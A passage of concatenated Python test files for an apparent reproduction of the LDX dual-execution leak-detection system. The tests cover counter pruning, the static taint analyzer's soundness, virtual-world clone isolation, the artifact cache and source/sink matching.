        f"{workload.name}: pruning changed the dual-execution verdict"
    )


def test_registry_has_pruned_sites():
    """The suite exercises real pruning, not a vacuous no-op: at least
    one registry workload must carry prunable counter updates."""
    total = 0
    for workload in ALL_WORKLOADS:
        _full, pruned = _plans(workload.source)
        total += pruned.plan.pruned_site_count
    assert total > 0


@given(random_programs())
@settings(max_examples=25, deadline=None)
def test_prune_toggle_identical_native(source):
    full, pruned = _plans(source)
    results = []
    for artifact in (full, pruned):
        for backend in ("switch", "threaded"):
            result = run_native(
                artifact.module,
                World(seed=1),
                plan=artifact.plan,
                backend=backend,
            )
            results.append(_native_observables(result))
    assert all(obs == results[0] for obs in results[1:])


@given(syscall_programs(), st.integers(0, 10_000), st.floats(0.0, 0.5, allow_nan=False))
@settings(max_examples=20, deadline=None)
def test_prune_toggle_identical_faulty_duals(source, fault_seed, rate):
    # Pruned plans under transient faults: fault injection draws from
    # the same RNG stream either way, so verdicts, degradation counts
    # and every stat must agree exactly.
    full, pruned = _plans(source)
    faults = FaultConfig(seed=fault_seed, rate=rate)
    observed = []
    injected = []
    for artifact in (full, pruned):
        for backend in ("switch", "threaded"):
            config = LdxConfig(
                sources=SourceSpec(),
                sinks=SinkSpec.network_out(),
                interp_backend=backend,
            )
            result = run_dual(artifact, make_world(), config, faults=faults)
            observed.append(_dual_observables(result))
            injected.append(result.degradation.faults_injected)
    assert all(count == injected[0] for count in injected[1:])
    assert all(obs == observed[0] for obs in observed[1:])
