"""Property test of the soundness oracle: for any workload, variant and
world seed, every detection the dual-execution engine reports must lie
inside the static analyzer's may-depend set.

This is the ``--check-static`` invariant.  The static pass is a sound
over-approximation of LDX — it flags every (function, sink-syscall)
pair a mutated source could possibly influence, through data flow,
control flow, environment channels, crash divergence or schedule
divergence.  A dynamic detection outside that set would mean either the
engine manufactured causality out of nothing or the analyzer missed a
divergence channel; both are bugs, and the engine records them as
``report.soundness_violations``.
"""

from hypothesis import given, settings, strategies as st

from repro.analysis import analyze_source
from repro.core.engine import run_dual
from repro.workloads import ALL_WORKLOADS, get_workload

WORKLOAD_NAMES = [workload.name for workload in ALL_WORKLOADS]


@settings(deadline=None, max_examples=12)
@given(
    name=st.sampled_from(WORKLOAD_NAMES),
    variant=st.sampled_from(["leak", "noleak"]),
    seed=st.integers(min_value=0, max_value=7),
)
def test_dynamic_detections_within_static_may_depend(name, variant, seed):
    workload = get_workload(name)
    config = workload.leak_variant()
    if variant == "noleak":
        config = workload.noleak_variant() or config
    analysis = analyze_source(workload.source, config, f"{name}:{variant}")
    result = run_dual(
        workload.instrumented,
        workload.build_world(seed),
        config,
        static_oracle=analysis,
    )
    assert result.report.soundness_violations == []
    for detection in result.report.detections:
        assert analysis.may_depend(detection.where, detection.syscall)


@settings(deadline=None, max_examples=8)
@given(name=st.sampled_from(WORKLOAD_NAMES))
def test_leak_verdict_implies_static_possibility(name):
    # Contrapositive convenience: if the static pass says causality is
    # impossible, the engine must agree.
    workload = get_workload(name)
    config = workload.leak_variant()
    analysis = analyze_source(workload.source, config, name)
    if analysis.causality_possible():
        return
    result = run_dual(workload.instrumented, workload.build_world(1), config)
    assert not result.report.causality_detected
