"""Property-based tests of clone isolation.

The paper's Section 7 invariant: the slave's outputs land in a private
clone and can never become externally visible.  These tests drive
random sequences of fs/network/env/source mutations against a cloned
:class:`World` and assert that no mutation on the clone is observable
in the original (nor vice versa) — for both the overlay clone path
(``World.clone`` / ``VirtualFS.clone``) and the materialized
``deep_clone`` reference path.
"""

from hypothesis import given, settings, strategies as st

from repro.vos.filesystem import VirtualFS
from repro.vos.world import World

# A small path universe keeps collisions (and thus interesting
# tombstone/copy-up interleavings) frequent.
PATHS = ["/a", "/a/x", "/a/y", "/b", "/d/e/f", "/tmp/t"]
LABELS = ["s1", "s2"]
ENV_KEYS = ["HOME", "LANG"]

_mutations = st.lists(
    st.one_of(
        st.tuples(st.just("add_file"), st.sampled_from(PATHS), st.text(max_size=5)),
        st.tuples(st.just("edit_file"), st.sampled_from(PATHS), st.text(max_size=5)),
        st.tuples(st.just("unlink"), st.sampled_from(PATHS)),
        st.tuples(st.just("rename"), st.sampled_from(PATHS), st.sampled_from(PATHS)),
        st.tuples(st.just("mkdir"), st.sampled_from(PATHS)),
        st.tuples(st.just("env"), st.sampled_from(ENV_KEYS), st.text(max_size=5)),
        st.tuples(st.just("source"), st.sampled_from(LABELS), st.text(max_size=5)),
        st.tuples(st.just("send"), st.text(max_size=5)),
        st.tuples(st.just("recv"), st.integers(0, 8)),
        st.tuples(st.just("rng"),),
        st.tuples(st.just("clock"),),
    ),
    max_size=12,
)


def _build_world() -> World:
    world = World(seed=3)
    world.fs.add_file("/a/x", "ax")
    world.fs.add_file("/b", "b")
    world.env["HOME"] = "/home"
    world.sources["s1"] = ["v1"]
    world.sources["s2"] = {"k": "v2"}
    world.network.register_factory("srv", 1, _counting_endpoint)
    world.network.connect("srv", 1).send("hello")
    return world


def _counting_endpoint():
    state = [0]

    def script(req):
        state[0] += 1
        return f"n{state[0]}:{req};"

    return script


def _apply(world: World, mutation) -> None:
    kind = mutation[0]
    fs = world.fs
    if kind == "add_file":
        fs.add_file(mutation[1], mutation[2])
    elif kind == "edit_file":
        vfile = fs.file(mutation[1])
        if vfile is not None:
            vfile.content = mutation[2]
    elif kind == "unlink":
        fs.unlink(mutation[1])
    elif kind == "rename":
        fs.rename(mutation[1], mutation[2])
    elif kind == "mkdir":
        fs.mkdir(mutation[1])
    elif kind == "env":
        world.env[mutation[1]] = mutation[2]
    elif kind == "source":
        value = world.sources[mutation[1]]
        if isinstance(value, list):
            value.append(mutation[2])
        else:
            value["extra"] = mutation[2]
    elif kind == "send":
        world.network.connections[0].send(mutation[1])
    elif kind == "recv":
        world.network.connections[0].recv(mutation[1])
    elif kind == "rng":
        world.rng.next_int(100)
    elif kind == "clock":
        world.clock.read()


def _observe(world: World):
    """Everything externally observable about a world."""
    fs = world.fs
    connection = world.network.connections[0]
    return (
        fs.paths(),
        {p: (fs.read_file(p).content, fs.read_file(p).mtime) for p in fs.paths()},
        dict(world.env),
        {k: repr(v) for k, v in world.sources.items()},
        list(connection.sent),
        connection.cursors(),
        world.clock.peek(),
        world.rng.state(),
    )


@settings(max_examples=60, deadline=None)
@given(clone_mutations=_mutations, original_mutations=_mutations)
def test_world_clone_isolation_both_directions(
    clone_mutations, original_mutations
):
    world = _build_world()
    clone = world.clone()
    before_world = _observe(world)
    before_clone = _observe(clone)
    assert before_world == before_clone  # clones start identical

    for mutation in clone_mutations:
        _apply(clone, mutation)
    assert _observe(world) == before_world  # clone writes invisible

    snapshot_clone = _observe(clone)
    for mutation in original_mutations:
        _apply(world, mutation)
    assert _observe(clone) == snapshot_clone  # and vice versa


@settings(max_examples=60, deadline=None)
@given(mutations=_mutations)
def test_overlay_clone_matches_deep_clone_semantics(mutations):
    """The overlay path and the materialized deep-clone path expose
    identical observable state under identical mutation sequences."""
    base = VirtualFS()
    base.add_file("/a/x", "ax")
    base.add_file("/b", "b")

    overlay = base.clone()
    deep = base.deep_clone()
    fs_kinds = ("add_file", "edit_file", "unlink", "rename", "mkdir")
    for mutation in mutations:
        if mutation[0] not in fs_kinds:
            continue
        for fs in (overlay, deep):
            world_like = type("W", (), {"fs": fs})()
            _apply(world_like, mutation)
    assert overlay.paths() == deep.paths()
    for path in overlay.paths():
        assert overlay.read_file(path).content == deep.read_file(path).content
    for path in PATHS:
        assert overlay.exists(path) == deep.exists(path)
        assert overlay.is_dir(path) == deep.is_dir(path)
    # Neither path leaked anything into the shared base.
    assert base.paths() == ["/a/x", "/b"]
    assert base.read_file("/a/x").content == "ax"
