"""Unit tests for ``repro analyze``: report rendering, IR annotation,
baseline comparison and the cold/warm cache byte-identity contract."""

import json

import pytest

from repro import cache
from repro.analysis import analyze_source, render_analysis
from repro.cli import main
from repro.ir import compile_source
from repro.ir.printer import format_function, format_module

WARNY = """
fn main() {
  var secret = 0;
  var fd = open("/in", "r");
  var data = read(fd, 8);
  close(fd);
  var out = open("/out", "w");
  write(out, data);
  close(out);
}
"""

CLEAN = """
fn main() {
  var fd = open("/in", "r");
  var data = read(fd, 8);
  close(fd);
  print(data);
}
"""


@pytest.fixture(autouse=True)
def isolated_cache(tmp_path):
    cache.configure(cache_dir=str(tmp_path / "cache"))
    yield
    cache.configure(enabled=True)


@pytest.fixture
def warny_program(tmp_path):
    path = tmp_path / "warny.mc"
    path.write_text(WARNY)
    return str(path)


@pytest.fixture
def clean_program(tmp_path):
    path = tmp_path / "clean.mc"
    path.write_text(CLEAN)
    return str(path)


def test_analyze_reports_diagnostics_and_causality(warny_program, capsys):
    assert main(["analyze", warny_program, "--no-cache"]) == 0
    out = capsys.readouterr().out
    assert "never-read-var" in out and "'secret'" in out
    assert "sink main:write" in out


def test_analyze_requires_a_target():
    with pytest.raises(SystemExit):
        main(["analyze"])


def test_analyze_strict_fails_on_warning(warny_program, clean_program):
    assert main(["analyze", warny_program, "--strict", "--no-cache"]) == 1
    assert main(["analyze", clean_program, "--strict", "--no-cache"]) == 0


def test_analyze_baseline_accepts_known_and_flags_new(
    warny_program, tmp_path, capsys
):
    baseline = str(tmp_path / "baseline.txt")
    assert (
        main(["analyze", warny_program, "--write-baseline", baseline]) == 0
    )
    capsys.readouterr()
    # Known finding: accepted.
    assert main(["analyze", warny_program, "--baseline", baseline]) == 0
    # Empty baseline: the same finding is new.
    (tmp_path / "empty.txt").write_text("# nothing known\n")
    assert (
        main(
            ["analyze", warny_program, "--baseline", str(tmp_path / "empty.txt")]
        )
        == 1
    )
    assert "NEW diagnostic" in capsys.readouterr().out


def test_analyze_workload_and_json(tmp_path, capsys):
    out_path = tmp_path / "analysis.json"
    assert main(["analyze", "--workload", "gzip", "--json", str(out_path)]) == 0
    payload = json.loads(out_path.read_text())
    assert payload["schema"] == "ldx-analyze-v2"
    (entry,) = payload["programs"]
    assert entry["name"] == "gzip"
    assert entry["sink_sites"] >= 1


def test_analyze_dump_ir_shows_annotations(warny_program, capsys):
    assert main(["analyze", warny_program, "--dump-ir", "--no-cache"]) == 0
    out = capsys.readouterr().out
    assert "fn main():" in out
    assert "<-" in out  # def-use chains rendered as comments


def test_cold_and_warm_cache_reports_are_byte_identical(
    warny_program, tmp_path, capsys
):
    cache_dir = str(tmp_path / "c2")
    cache.configure(cache_dir=cache_dir)
    assert main(["analyze", warny_program, "--cache-dir", cache_dir]) == 0
    cold = capsys.readouterr().out
    # Fresh in-memory caches, same disk dir: the warm run loads the
    # pickled summary instead of re-analyzing.
    cache.configure(cache_dir=cache_dir)
    assert main(["analyze", warny_program, "--cache-dir", cache_dir]) == 0
    warm = capsys.readouterr().out
    assert warm == cold
    assert cache.get_analysis_cache().stats.disk_hits >= 1


def test_analysis_cache_returns_equal_summary(tmp_path):
    cache.configure(cache_dir=str(tmp_path / "c3"))
    first = analyze_source(WARNY, name="prog")
    cache.configure(cache_dir=str(tmp_path / "c3"))
    second = analyze_source(WARNY, name="prog")
    assert render_analysis(first) == render_analysis(second)
    assert first.flagged_sinks == second.flagged_sinks
    assert first.annotations == second.annotations


# -- printer annotation hook ----------------------------------------------------


def test_printer_annotate_hook_appends_comments():
    module = compile_source("fn main() { var x = 1; print(x); }")
    main_fn = module.function("main")

    def annotate(function_name, index, instr):
        if index == 1:
            return f"{function_name} note"
        return None

    text = format_function(main_fn, annotate)
    lines = text.splitlines()
    assert lines[2].endswith("; main note")
    assert all("; main note" not in line for line in lines[3:])
    # The module-level renderer threads the hook through too.
    assert "; main note" in format_module(module, annotate)


def test_printer_without_annotator_unchanged():
    module = compile_source("fn main() { print(1); }")
    assert ";" not in format_module(module)
