"""Edge cases for the instrumentation pipeline."""

import pytest

from repro.instrument import CounterAdd, LoopSync, instrument_module
from repro.instrument.plan import LoopExit
from repro.ir import compile_source


def instrument(source):
    return instrument_module(compile_source(source))


def test_syscall_free_program_gets_no_actions():
    inst = instrument("fn main() { var x = 1 + 2; }")
    plan = inst.plan.functions["main"]
    assert plan.fcnt == 0
    assert plan.actions == {}


def test_empty_main():
    inst = instrument("fn main() { }")
    assert inst.plan.functions["main"].fcnt == 0


def test_branches_with_equal_syscall_counts_need_no_compensation():
    inst = instrument(
        """
        fn main() {
          var x = 1;
          if (x > 0) { print("a"); } else { print("b"); }
        }
        """
    )
    plan = inst.plan.functions["main"]
    deltas = [
        action.delta
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, CounterAdd)
    ]
    # Only the +1 edges into the two syscalls; no join compensation.
    assert sorted(deltas) == [1, 1]
    assert plan.fcnt == 1


def test_early_return_in_one_branch():
    inst = instrument(
        """
        fn main() {
          var x = 1;
          if (x > 0) { return; }
          print("rare");
          print("rare2");
        }
        """
    )
    plan = inst.plan.functions["main"]
    function = inst.module.functions["main"]
    # The early return must be compensated up to fcnt at the exit.
    assert plan.counter_at[function.exit] == plan.fcnt == 2


def test_loop_exit_actions_present_only_for_barrier_loops():
    inst = instrument(
        """
        fn main() {
          var i = 0;
          while (i < 3) { i = i + 1; }
          var j = 0;
          while (j < 3) { print(j); j = j + 1; }
        }
        """
    )
    plan = inst.plan.functions["main"]
    exits = [
        action
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, LoopExit)
    ]
    syncs = [
        action
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, LoopSync)
    ]
    assert len(plan.barrier_loops) == 1
    assert len(syncs) == 1
    assert len(exits) >= 1
    assert all(exit_action.head in plan.barrier_loops for exit_action in exits)


def test_while_true_with_break_only_exit():
    inst = instrument(
        """
        fn main() {
          var i = 0;
          while (true) {
            print(i);
            i = i + 1;
            if (i == 3) { break; }
          }
          print("after");
        }
        """
    )
    plan = inst.plan.functions["main"]
    assert len(plan.barrier_loops) == 1
    # Executable check: the program still behaves and counters bound.
    from repro.baselines.native import run_native
    from repro.vos.world import World

    result = run_native(inst.module, World(), plan=inst.plan)
    assert result.stdout == "012after"
    assert result.stats.max_counter <= plan.fcnt


def test_sequential_loops_have_distinct_heads():
    inst = instrument(
        """
        fn main() {
          var i = 0;
          while (i < 2) { print(i); i = i + 1; }
          var j = 0;
          while (j < 2) { print(j); j = j + 1; }
        }
        """
    )
    plan = inst.plan.functions["main"]
    assert len(plan.barrier_loops) == 2


def test_call_chain_fcnt_accumulates():
    inst = instrument(
        """
        fn c() { print("c"); }
        fn b() { c(); c(); }
        fn a() { b(); print("a"); }
        fn main() { a(); }
        """
    )
    assert inst.plan.fcnt["c"] == 1
    assert inst.plan.fcnt["b"] == 2
    assert inst.plan.fcnt["a"] == 3
    assert inst.plan.functions["main"].fcnt == 3


def test_scoped_call_does_not_contribute_fcnt():
    inst = instrument(
        """
        fn r(n) { if (n > 0) { print(n); r(n - 1); } return 0; }
        fn main() { r(2); print("post"); }
        """
    )
    # main's total counts only its own print; the recursive call is a
    # fresh scope contributing nothing to the caller's counter.
    assert inst.plan.functions["main"].fcnt == 1


def test_unreachable_code_is_ignored():
    inst = instrument(
        """
        fn main() {
          return;
          print("never");
        }
        """
    )
    plan = inst.plan.functions["main"]
    assert plan.fcnt == 0


def test_logical_operators_counted_once():
    inst = instrument(
        """
        fn noisy() { print("n"); return 1; }
        fn main() {
          var a = noisy() and noisy();
          print(a);
        }
        """
    )
    plan = inst.plan.functions["main"]
    # Max path: both noisy calls + final print = 3; short-circuit path
    # compensated.
    assert plan.fcnt == 3
