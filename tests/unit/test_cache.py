"""Unit tests for the content-addressed instrumentation artifact cache."""

import os
import pickle

import pytest

from repro import cache
from repro.cache import SCHEMA_TAG, ArtifactCache, artifact_key
from repro.instrument import InstrumentedModule

SOURCE = """
fn main() {
  var fd = open("/etc/secret", "r");
  var x = parse_int(read(fd, 8));
  close(fd);
  print(x);
}
"""

OTHER_SOURCE = """
fn main() {
  print("other");
}
"""


# -- keys ---------------------------------------------------------------------


def test_key_is_stable_and_content_addressed():
    assert artifact_key(SOURCE) == artifact_key(SOURCE)
    assert artifact_key(SOURCE) != artifact_key(OTHER_SOURCE)


def test_key_covers_instrumentation_config_not_dict_order():
    base = artifact_key(SOURCE)
    assert artifact_key(SOURCE, {"opt": 1}) != base
    assert artifact_key(SOURCE, {"a": 1, "b": 2}) == artifact_key(
        SOURCE, {"b": 2, "a": 1}
    )


def test_key_changes_with_schema_tag(monkeypatch):
    before = artifact_key(SOURCE)
    monkeypatch.setattr(cache, "SCHEMA_TAG", SCHEMA_TAG + "-bumped")
    assert artifact_key(SOURCE) != before


# -- memory layer --------------------------------------------------------------


def test_memory_hit_and_miss_accounting():
    store = ArtifactCache()
    first = store.instrumented(SOURCE)
    second = store.instrumented(SOURCE)
    assert first is second
    assert isinstance(first, InstrumentedModule)
    assert store.stats.misses == 1
    assert store.stats.memory_hits == 1


def test_lru_evicts_least_recently_used():
    store = ArtifactCache(capacity=1)
    store.instrumented(SOURCE)
    store.instrumented(OTHER_SOURCE)  # evicts SOURCE
    assert len(store) == 1
    store.instrumented(SOURCE)
    assert store.stats.misses == 3
    assert store.stats.memory_hits == 0


def test_disabled_cache_always_recompiles():
    store = ArtifactCache(enabled=False)
    first = store.instrumented(SOURCE)
    second = store.instrumented(SOURCE)
    assert first is not second
    assert len(store) == 0
    assert store.stats.lookups == 0


# -- disk layer ----------------------------------------------------------------


def test_disk_roundtrip_across_instances(tmp_path):
    cold = ArtifactCache(cache_dir=str(tmp_path))
    artifact = cold.instrumented(SOURCE)
    assert cold.stats.misses == 1 and cold.stats.stores == 1

    warm = ArtifactCache(cache_dir=str(tmp_path))
    loaded = warm.instrumented(SOURCE)
    assert warm.stats.disk_hits == 1 and warm.stats.misses == 0
    assert loaded.static_stats() == artifact.static_stats()


def test_schema_tag_mismatch_invalidates_entry(tmp_path):
    store = ArtifactCache(cache_dir=str(tmp_path))
    store.instrumented(SOURCE)
    (entry,) = list((tmp_path / SCHEMA_TAG).iterdir())
    payload = pickle.loads(entry.read_bytes())
    payload["schema"] = "ldx-artifact-v0-stale"
    entry.write_bytes(pickle.dumps(payload))

    reopened = ArtifactCache(cache_dir=str(tmp_path))
    reopened.instrumented(SOURCE)
    assert reopened.stats.disk_hits == 0
    assert reopened.stats.misses == 1
    assert reopened.stats.disk_errors == 1
    # The stale entry was replaced by a fresh, loadable one.
    rewritten = ArtifactCache(cache_dir=str(tmp_path))
    rewritten.instrumented(SOURCE)
    assert rewritten.stats.disk_hits == 1


def test_corrupted_entry_falls_back_to_recompile(tmp_path):
    store = ArtifactCache(cache_dir=str(tmp_path))
    store.instrumented(SOURCE)
    (entry,) = list((tmp_path / SCHEMA_TAG).iterdir())
    entry.write_bytes(b"\x80\x04 truncated garbage")

    reopened = ArtifactCache(cache_dir=str(tmp_path))
    artifact = reopened.instrumented(SOURCE)
    assert isinstance(artifact, InstrumentedModule)
    assert reopened.stats.disk_errors == 1
    assert reopened.stats.misses == 1


def test_unwritable_disk_layer_degrades_gracefully(tmp_path):
    blocker = tmp_path / "blocked"
    blocker.write_text("a file where the cache dir should be")
    store = ArtifactCache(cache_dir=str(blocker / "sub"))
    artifact = store.instrumented(SOURCE)
    assert isinstance(artifact, InstrumentedModule)
    assert store.stats.disk_errors >= 1


# -- process-global configuration ---------------------------------------------


def test_configure_swaps_global_cache():
    original = cache.get_cache()
    try:
        swapped = cache.configure(enabled=False)
        assert cache.get_cache() is swapped
        assert not cache.get_cache().enabled
    finally:
        cache._GLOBAL = original


def test_workload_property_routes_through_global_cache():
    from repro.workloads import ALL_WORKLOADS

    workload = ALL_WORKLOADS[0]
    workload._instrumented = None
    workload._module = None
    baseline = cache.get_cache().stats.lookups
    artifact = workload.instrumented
    assert cache.get_cache().stats.lookups == baseline + 1
    # The per-workload memo serves repeat accesses without a lookup.
    assert workload.instrumented is artifact
    assert cache.get_cache().stats.lookups == baseline + 1


# -- concurrent-writer hardening ----------------------------------------------


def test_digest_mismatch_is_a_miss_and_heals(tmp_path):
    """Silent bit-rot inside the artifact blob (outer pickle still
    valid) must be caught by the payload digest, never unpickled."""
    store = ArtifactCache(cache_dir=str(tmp_path))
    store.instrumented(SOURCE)
    (entry,) = list((tmp_path / SCHEMA_TAG).iterdir())
    payload = pickle.loads(entry.read_bytes())
    blob = bytearray(payload["artifact"])
    blob[len(blob) // 2] ^= 0xFF
    payload["artifact"] = bytes(blob)
    entry.write_bytes(pickle.dumps(payload))  # digest now stale

    reopened = ArtifactCache(cache_dir=str(tmp_path))
    artifact = reopened.instrumented(SOURCE)
    assert isinstance(artifact, InstrumentedModule)
    assert reopened.stats.disk_hits == 0
    assert reopened.stats.disk_errors == 1
    assert reopened.stats.misses == 1
    # The rebuild republished a good entry.
    healed = ArtifactCache(cache_dir=str(tmp_path))
    healed.instrumented(SOURCE)
    assert healed.stats.disk_hits == 1


def test_torn_partial_write_is_a_miss(tmp_path):
    """A torn write (file cut mid-payload) is a miss, not a crash."""
    store = ArtifactCache(cache_dir=str(tmp_path))
    store.instrumented(SOURCE)
    (entry,) = list((tmp_path / SCHEMA_TAG).iterdir())
    whole = entry.read_bytes()
    entry.write_bytes(whole[: len(whole) // 2])

    reopened = ArtifactCache(cache_dir=str(tmp_path))
    artifact = reopened.instrumented(SOURCE)
    assert isinstance(artifact, InstrumentedModule)
    assert reopened.stats.disk_errors == 1
    assert reopened.stats.misses == 1


def test_concurrent_lookups_converge_on_one_artifact(tmp_path):
    """Racing builders reconcile on a single canonical object."""
    import threading

    store = ArtifactCache(cache_dir=str(tmp_path))
    results = []
    barrier = threading.Barrier(8)

    def hammer():
        barrier.wait()
        for _ in range(5):
            results.append(store.instrumented(SOURCE))

    threads = [threading.Thread(target=hammer) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(results) == 40
    assert len({id(artifact) for artifact in results}) == 1
    assert len(store) == 1
    # The on-disk entry is intact after the race.
    fresh = ArtifactCache(cache_dir=str(tmp_path))
    fresh.instrumented(SOURCE)
    assert fresh.stats.disk_hits == 1


def test_concurrent_instances_share_the_disk_entry_safely(tmp_path):
    """Separate cache instances (separate processes in spirit) racing
    on one cache dir never corrupt the published entry."""
    import threading

    instances = [ArtifactCache(cache_dir=str(tmp_path)) for _ in range(4)]
    barrier = threading.Barrier(4)

    def hammer(store):
        barrier.wait()
        store.instrumented(SOURCE)

    threads = [threading.Thread(target=hammer, args=(s,)) for s in instances]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    fresh = ArtifactCache(cache_dir=str(tmp_path))
    artifact = fresh.instrumented(SOURCE)
    assert isinstance(artifact, InstrumentedModule)
    assert fresh.stats.disk_hits == 1
    assert fresh.stats.disk_errors == 0
