"""Unit tests for source/sink configuration matching."""

from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.core.mutation import off_by_one
from repro.interp.events import SyscallEvent
from repro.vos.kernel import Kernel
from repro.vos.world import World


def event(name, args):
    return SyscallEvent(None, 0, "main", 0, (1,), name, args)


def make_kernel():
    world = World(seed=1)
    world.fs.add_file("/etc/secret", "data")
    world.fs.add_file("/etc/other", "data")
    world.network.register("feed.example", 9, lambda req: "tick")
    world.env["HOME"] = "/home"
    return Kernel(world)


def test_file_source_matching():
    kernel = make_kernel()
    spec = SourceSpec(file_paths={"/etc/secret"})
    fd = kernel.execute("open", ("/etc/secret", "r"))
    other = kernel.execute("open", ("/etc/other", "r"))
    assert spec.matches(event("read", (fd, 4)), kernel) == "file:/etc/secret"
    assert spec.matches(event("read_line", (fd,)), kernel) == "file:/etc/secret"
    assert spec.matches(event("read", (other, 4)), kernel) is None
    assert spec.matches(event("write", (fd, "x")), kernel) is None


def test_stdin_source_matching():
    kernel = make_kernel()
    spec = SourceSpec(stdin=True)
    assert spec.matches(event("read", (0, 4)), kernel) == "stdin"
    assert SourceSpec().matches(event("read", (0, 4)), kernel) is None


def test_network_source_matching():
    kernel = make_kernel()
    spec = SourceSpec(network={"feed.example:9"})
    sock = kernel.execute("socket", ())
    kernel.execute("connect", (sock, "feed.example", 9))
    assert spec.matches(event("recv", (sock, 16)), kernel) == "conn:feed.example:9"
    assert spec.matches(event("send", (sock, "x")), kernel) is None


def test_env_and_label_sources():
    kernel = make_kernel()
    spec = SourceSpec(env_names={"HOME"}, labels={"secret"})
    assert spec.matches(event("getenv", ("HOME",)), kernel) == "env:HOME"
    assert spec.matches(event("getenv", ("PATH",)), kernel) is None
    assert spec.matches(event("source_read", ("secret",)), kernel) == "annot:secret"
    assert spec.matches(event("source_read", ("other",)), kernel) is None


def test_custom_mutator_lookup():
    upper = lambda value: value.upper()
    spec = SourceSpec(file_paths={"/a"}, mutators={"file:/a": upper})
    assert spec.mutator_for("file:/a") is upper
    assert spec.mutator_for("file:/b") is None


def test_source_count():
    spec = SourceSpec(
        file_paths={"/a", "/b"}, stdin=True, network={"h:1"}, labels={"l"}
    )
    assert spec.count == 5


def test_sink_spec_network_and_file_defaults():
    net = SinkSpec.network_out()
    assert net.matches(event("send", (3, "x")))
    assert not net.matches(event("write", (1, "x")))
    files = SinkSpec.file_out()
    assert files.matches(event("write", (1, "x")))
    assert files.matches(event("print", ("x",)))
    assert not files.matches(event("send", (3, "x")))


def test_sink_spec_annotations():
    any_label = SinkSpec(syscall_names=())
    assert any_label.matches(event("sink_observe", ("anything", 1)))
    scoped = SinkSpec(syscall_names=(), labels={"retaddr"})
    assert scoped.matches(event("sink_observe", ("retaddr", 1)))
    assert not scoped.matches(event("sink_observe", ("other", 1)))


def test_attack_detection_sinks():
    spec = SinkSpec.attack_detection()
    assert spec.matches(event("malloc", (64,)))
    assert spec.matches(event("sink_observe", ("retaddr:f", 1)))
    assert not spec.matches(event("send", (1, "x")))


def test_config_default_mutation_is_off_by_one():
    config = LdxConfig(SourceSpec(), SinkSpec())
    assert config.mutation is off_by_one
