"""Unit tests for the static taint pass: the four-point lattice, the
per-builtin transfer functions and the divergence channels the sound
over-approximation must cover."""

from repro.analysis.taint import (
    CLEAN,
    MUTATED,
    SHAPED,
    TAINTED,
    StaticSeeds,
    _builtin_result_level,
    static_causality,
)
from repro.core.config import LdxConfig, SinkSpec, SourceSpec
from repro.ir import compile_source

SEEDS = StaticSeeds(
    source_syscalls=frozenset({"read", "read_line"}),
    sink_syscalls=frozenset({"write", "print"}),
)


def causality(source, seeds=SEEDS):
    return static_causality(compile_source(source), seeds)


def levels(**named):
    mapping = dict(named)
    return lambda register: mapping.get(register, CLEAN)


# -- builtin transfer functions -------------------------------------------------


def test_len_of_mutated_is_clean():
    # Mutators preserve string length: len() observes nothing.
    assert _builtin_result_level("len", ["d"], levels(d=MUTATED)) == CLEAN
    assert _builtin_result_level("len", ["d"], levels(d=TAINTED)) == CLEAN


def test_len_of_shaped_is_tainted():
    assert _builtin_result_level("len", ["d"], levels(d=SHAPED)) == TAINTED


def test_chr_launders_to_arbitrary_content():
    # chr of a perturbed code point can become a separator character.
    assert _builtin_result_level("chr", ["n"], levels(n=MUTATED)) == TAINTED


def test_to_str_launders_to_shaped():
    # str(9) and str(10) differ in length.
    assert _builtin_result_level("to_str", ["n"], levels(n=MUTATED)) == SHAPED


def test_str_split_preserves_mutated_but_not_tainted():
    assert (
        _builtin_result_level("str_split", ["d", "s"], levels(d=MUTATED))
        == MUTATED
    )
    assert (
        _builtin_result_level("str_split", ["d", "s"], levels(d=TAINTED))
        == SHAPED
    )


def test_str_replace_always_shapes():
    assert (
        _builtin_result_level("str_replace", ["d", "a", "b"], levels(d=MUTATED))
        == SHAPED
    )


def test_substr_with_tainted_bounds_shapes():
    assert (
        _builtin_result_level("substr", ["d", "i", "j"], levels(i=MUTATED))
        == SHAPED
    )
    assert (
        _builtin_result_level("substr", ["d", "i", "j"], levels(d=MUTATED))
        == MUTATED
    )


def test_scalar_results_cap_at_tainted():
    assert _builtin_result_level("parse_int", ["d"], levels(d=SHAPED)) == TAINTED


def test_clean_inputs_stay_clean():
    assert _builtin_result_level("str_split", ["d", "s"], levels()) == CLEAN


# -- whole-program flows --------------------------------------------------------


def test_direct_flow_flags_sink():
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = read(f, 8);
          close(f);
          var o = open("/out", "w");
          write(o, d);
          close(o);
        }
        """
    )
    assert ("main", "write") in result.flagged
    assert not result.may_abort
    assert "fs" in result.tainted_channels


def test_no_flow_means_no_flag():
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = read(f, 8);
          close(f);
          var o = open("/out", "w");
          write(o, "constant");
          close(o);
        }
        """
    )
    # The write precedes nothing tainted and carries clean args — but
    # the fs channel was NOT tainted before it, so it stays unflagged.
    assert not result.causality_possible()


def test_control_dependence_flags_guarded_sink():
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = parse_int(read(f, 8));
          close(f);
          var o = open("/out", "w");
          if (d > 0) { write(o, "big"); }
          close(o);
        }
        """
    )
    assert ("main", "write") in result.flagged


def test_tainted_index_is_a_crash_channel():
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var i = parse_int(read(f, 4));
          close(f);
          var table = [10, 20, 30];
          var o = open("/out", "w");
          write(o, "v" + table[i]);
          close(o);
        }
        """
    )
    assert result.may_abort
    assert any("index" in reason for reason in result.abort_reasons)
    # Crash divergence truncates everything: every sink site is flagged.
    assert result.flagged == result.sink_sites


def test_mutator_contract_keeps_split_indexing_safe():
    # A mutated value keeps its separators and length: splitting it and
    # indexing the fields with clean indices cannot trap in one run only.
    # The sink is a network send so the tainted output cannot feed back
    # into the (flow-insensitive) fs channel.
    result = causality(
        """
        fn main() {
          var f = open("/in", "r");
          var d = read(f, 32);
          close(f);
          var parts = str_split(d, ",");
          var s = socket();
          connect(s, "peer", 80);
          if (len(parts) > 1) { send(s, parts[0]); }
          close(s);
        }
        """,
        seeds=StaticSeeds(
